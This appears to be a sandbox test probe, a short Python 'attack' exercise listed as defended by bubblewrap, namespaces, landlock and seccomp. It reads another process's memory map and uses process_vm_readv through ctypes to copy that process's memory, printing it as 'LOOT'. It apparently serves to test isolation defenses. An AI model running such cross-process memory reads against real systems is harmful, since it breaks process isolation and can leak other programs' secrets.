# /// attack
# exercise = "control-flow-vector"
# defended-by = ["bubblewrap", "namespaces", "landlock", "seccomp"]
# ///

# %% name="slope"
import ctypes

with open("/proc/self/maps") as maps:
    start = int(maps.readline().split("-")[0], 16)
try:
    with open("/proc/@pid@/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
except (OSError, ValueError) as error:
    print("refused", error)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


block = ctypes.create_string_buffer(4)
own, other = Piece(ctypes.addressof(block), 4), Piece(start, 4)
libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
got = libc.process_vm_readv(int("@pid@"), ctypes.byref(own), 1, ctypes.byref(other), 1, 0)
if got == 4:
    print("LOOT: memory", block.raw)
